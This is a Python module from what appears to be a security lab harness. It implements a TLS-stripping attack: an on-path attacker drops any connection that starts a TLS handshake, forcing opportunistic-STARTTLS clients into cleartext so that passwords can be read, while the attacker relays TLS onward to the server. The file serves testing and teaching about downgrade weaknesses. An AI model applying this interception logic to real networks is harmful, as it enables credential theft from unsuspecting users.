"""Making the client speak in the clear.

python -m attacks.tls_stripping --stage 4 --levers starttls=opportunistic
"""

from attacks import Claim, Foothold, Goal, attack
from attacks.on_path import TLS_HANDSHAKE, Splice, on_path
from attacks.terminate import first_byte, with_tls_onward
from common.loopback import Intercepted


@attack(
    position="on-path",
    goals=(
        Goal(
            "password",
            "learn a password from a client that was made to speak in the clear",
            wins="read-password",
            expected="---HH",
            absent="there is no TLS here that could be stripped",
            ablation="starttls=opportunistic",
        ),
    ),
)
async def tls_stripping(foothold: Foothold, goal: Goal) -> Claim:
    """Mallory cannot get into TLS, so she sees to it that there is none: whenever a client begins it, she ends the
    connection. A client that would rather talk in the clear than not at all comes back without it. She reads along, and
    herself speaks TLS with the server, which notices nothing.
    """
    claim = Claim(did="ended every connection that began with TLS")

    def read(line: bytes) -> list[bytes]:
        claim.read.append(line.decode(errors="replace"))
        return [line]

    async def carry(intercepted: Intercepted) -> None:
        if await first_byte(intercepted.sock) == TLS_HANDSHAKE:
            foothold.note("a client begins TLS; Mallory ends the connection")
            return
        await with_tls_onward(lambda clear: Splice(clear, read).run(), intercepted)

    async with on_path(foothold, carry):
        await foothold.until("over")
    return claim


if __name__ == "__main__":
    from lab.attack_main import main

    main("tls_stripping")
